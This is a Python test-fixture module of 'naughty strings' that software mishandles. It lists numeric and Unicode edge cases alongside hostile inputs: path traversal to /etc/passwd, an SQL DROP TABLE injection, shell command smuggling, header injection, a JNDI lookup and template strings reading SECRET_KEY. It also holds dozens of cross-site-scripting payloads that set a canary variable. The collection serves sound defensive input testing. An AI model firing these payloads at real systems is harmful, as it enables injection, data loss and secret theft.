"""Texts that software stumbles over, each for a reason; written for this project, after the idea of naughty strings."""

from __future__ import annotations

from collections.abc import Mapping

CANARY = "__xss"  # what a script sets that should never run
_RUN = f"window.{CANARY}=1"

PLAIN: Mapping[str, str] = {
    "empty": "",
    "blank": " \t ",
    "blank around": "  in the middle  ",
    "undefined": "undefined",
    "null": "null",
    "true": "True",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "hexadecimal": "0x7fffffff",
    "float at its end": "1e309",
    "one too many for 32 bits": "2147483648",
    "one too many for 64 bits": "9223372036854775808",
    "negative zero": "-0",
    "5,000 digits": "7" * 5000,
    "fraction of nothing": "1/0",
    "path": "../../../../etc/passwd",
    "Windows device": "CON",
    "drive": "C:\\..\\boot.ini",
    "address": "//example.org/\\@example.com",
    "format": "%s%n%(a)s{0.__class__}{{7*7}}${7*7}#{7*7}",
    "template language": "{% load static %}{{ settings.SECRET_KEY }}{# #}",
    "SQL": "'; DROP TABLE quizzes_user; --",
    "SQL pattern": "%_%'\"\\",
    "shell": "$(touch x) `id` ; id | id && id > /dev/null",
    "header": "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "mail header": "a@example.org\nBcc: b@example.org",
    "spreadsheet": '=HYPERLINK("http://example.org","a")',
    "lookup": "${jndi:ldap://example.org/a}",
    "entity": "&lt;&amp;&#60;&#x3c;&nosuch;",
    "lines": "one\ntwo\r\nthree\rfour\u0085five\u2028six\u2029seven",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 133), *range(134, 160)])),
    "NUL": "be\x00fore",
    "half of a pair": "be\ud800fore",
    "the other half": "\udfff",
    "a pair the wrong way": "\udc00\ud800",
    "no character": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\ue001\uf8ff\U000f0000",
    "byte order mark": "\ufeffbom\ufffe",
    "right to left": "\u202eabc\u202c \u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u0645\u0631\u062d\u0628\u0627",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\u00adf",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349a\u0300"
    + "\u0301" * 40,
    "composed and not": "\u00e9 e\u0301 \u212b A\u030a \ufb01 \uff76\uff9e",
    "emoji": "\U0001f469\U0001f3fd\u200d\U0001f680 \U0001f1ef\U0001f1f5 \u2764\ufe0f 1\ufe0f\u20e3",
    "full width": "１２３．４５　－６７　ＡＢｃ",
    "other digits": "٣٤٥ ४५६ ²³ ①② Ⅷ 〇一二",
    "case that grows": "ıİßﬁΐ\u1e9e",
    "Japanese": "畳み込み層の出力は｢ソ｣と表示能力が十。𠮷野家ﾊﾝｶｸ",
    "spaces": "\u3000\u00a0\u2003\u202f\u205f\ufeff",
    "long": "あ" * 3000,
    "long without a break": "W" * 100_000,
    "LaTeX": "$\\def\\a{\\a\\a}\\a$ \\input{/etc/passwd} $\\href{javascript:alert(1)}{a}$",
}

# Each would run a script where a text became markup, an attribute, an address or code.
SCRIPTS: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt >{_RUN}</sCrIpT >",
    "script from data": f"<script src=data:,{_RUN}></script>",
    "image": f"<img src=x onerror={_RUN}>",
    "image without spaces": f'<img/src="x"/onerror="{_RUN}">',
    "picture": f"<svg onload={_RUN}>",
    "animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "style": f"<style onload={_RUN}></style>",
    "video": f"<video><source onerror={_RUN}></video>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "focus": f"<input autofocus onfocus={_RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    "frame by address": f"<iframe src=\"javascript:parent.{CANARY}=1\"></iframe>",
    "object": "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "body": f"<body onpageshow={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "out of a double quote": f'" autofocus onfocus="{_RUN}" x="',
    "out of a single quote": f"' autofocus onfocus='{_RUN}' x='",
    "out of a text area": f"</textarea><img src=x onerror={_RUN}>",
    "out of a title": f"</title><img src=x onerror={_RUN}>",
    "out of a script": f"</script><img src=x onerror={_RUN}>",
    "out of a comment": f"--><img src=x onerror={_RUN}><!--",
    "out of CDATA": f"]]><img src=x onerror={_RUN}>",
    "out of no script": f"</noscript><img src=x onerror={_RUN}>",
    "out of a string of JavaScript": f"';{_RUN};'\";{_RUN};\"`${{{_RUN}}}",
    "address of a script": f"javascript:{_RUN}",
    "address of a script, hidden": f"java\tscript:{_RUN}//\u0001",
    "link": f'<a href="javascript:{_RUN}" id=x>x</a><base href="//127.0.0.1:9/">',
    "refresh": f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "Markdown link": f"[x](javascript:{_RUN}) ![x](x\" onerror=\"{_RUN})",
    "Markdown address": f"<javascript:{_RUN}> [x]: javascript:{_RUN}",
    "Markdown and markup": f"`<img src=x onerror={_RUN}>` **<img src=x onerror={_RUN}>**",
    "LaTeX link": f"$\\href{{javascript:{_RUN}}}{{x}}$",
    "LaTeX text": f"$\\text{{<img src=x onerror={_RUN}>}}$",
    "MathML": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    "template element": f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    "htmx": f'<div hx-on:load="{_RUN}" hx-get="/" hx-trigger="load" hx-on::load="{_RUN}">x</div>',
    "htmx variables": f"<div hx-vals='js:{{a:({_RUN})}}' hx-get='/' hx-trigger='load'>x</div>",
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;img src=x onerror={_RUN}&#62;",
    "full width": f"＜script＞{_RUN}＜/script＞",
    "overlong": f"%3Cimg%20src%3Dx%20onerror%3D{_RUN}%3E \\u003cimg src=x onerror={_RUN}\\u003e",
    "NUL inside": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "half open": f"<img src=x onerror={_RUN} ",
    "all at once": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={_RUN} )//%0D%0A</stYle/</titLe/</teXtarEa/"
    f"</scRipt/--!><sVg/<sVg/oNloAd={_RUN}//>",
}  # fmt: skip

ALL: Mapping[str, str] = {**PLAIN, **{f"script: {name}": text for name, text in SCRIPTS.items()}}


def is_text(text: str) -> bool:
    """Whether it can be written in UTF-8."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True
